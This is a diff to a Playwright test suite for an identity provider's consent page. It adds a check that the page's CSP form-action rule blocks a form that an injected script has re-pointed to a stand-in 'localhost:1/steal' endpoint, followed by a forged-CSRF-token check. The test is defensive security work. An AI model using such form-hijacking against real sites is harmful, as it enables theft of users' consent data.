@@ -141,9 +141,22 @@ def test_cross_site_consent_post_is_refused(context: Any, page: Any, idp: Browse
     assert "code" in got
 
 
-def test_consent_with_a_forged_token_from_the_page_itself_is_refused(page: Any, idp: BrowserIdP) -> None:
-    """Same origin (so the Origin check passes), but the CSRF token is not the one this session got."""
-    _at_consent(page, idp)
+def test_consent_with_a_forged_token_from_the_page_itself_is_refused(page: Any, idp: BrowserIdP,
+                                                                    watch: Watch) -> None:
+    """Same origin (so the Origin check passes), but the CSRF token is not the one this session
+    got. And first, as if a script had been injected: the form re-pointed at another site is
+    stopped by the page's CSP (``form-action``) before anything is sent."""
+    interaction = _at_consent(page, idp)
+    page.locator("#consent-form").evaluate("f => f.action = 'http://localhost:1/steal'")
+    page.get_by_role("button", name="Allow selected").click(no_wait_after=True)  # no navigation follows
+    for _ in range(50):
+        if any("form-action" in m for m in watch.csp_messages()):
+            break
+        page.wait_for_timeout(100)
+    assert page.url.startswith(idp.url), page.url
+    assert not [r for r in watch.requests if "/steal" in r[1]], watch.requests
+    assert any("form-action" in m for m in watch.csp_messages()), watch.console
+    page.goto(f"{idp.url}/interaction/{interaction}")  # the consent page again, as served
     page.locator("#consent-form input[name=csrf]").evaluate("el => el.value = 'B'.repeat(43)")
     with page.expect_response(lambda r: r.url.endswith("/consent")) as answer:
         page.get_by_role("button", name="Allow selected").click()
